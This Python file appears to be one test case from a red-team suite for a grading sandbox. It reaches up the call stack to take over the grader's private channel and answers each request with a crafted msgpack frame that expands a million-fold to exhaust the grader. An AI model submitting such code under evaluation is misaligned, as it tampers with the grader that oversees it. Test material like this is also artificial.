# attack: answers with a frame that decodes to a hundred times its size | class: exhausting | canary: bytes | dud: plain pytest has no wire
import sys

import msgspec

from grader.sandbox.wire.messages import Loaded
from grader.sandbox.wire.packing import Packing


def answer(make):
    """Whatever is asked after this, answer with what `make` makes of the question."""
    call = sys._getframe()
    while call.f_code.co_name != "serve":
        call = call.f_back
    channel = call.f_locals["channel"]
    channel.send(Loaded(), Packing(), None)
    while True:
        request, unpacking = channel.receive_request()
        make(channel, request)

import struct


def raw(channel, structure, blob=b""):
    structure = msgspec.msgpack.encode(structure)
    channel._socket.sendall(struct.pack("<IQQ", len(structure), len(blob), channel._number) + structure + blob)


def extension(code, value):
    return msgspec.msgpack.Ext(code, msgspec.msgpack.encode(value))


def make(channel, request):
    lists = b"\x82\xa4type\xa8returned\xa5value\xdd" + struct.pack(">I", 1_000_000) + b"\x90" * 1_000_000
    channel._socket.sendall(struct.pack("<IQQ", len(lists), 0, channel._number) + lists)


answer(make)
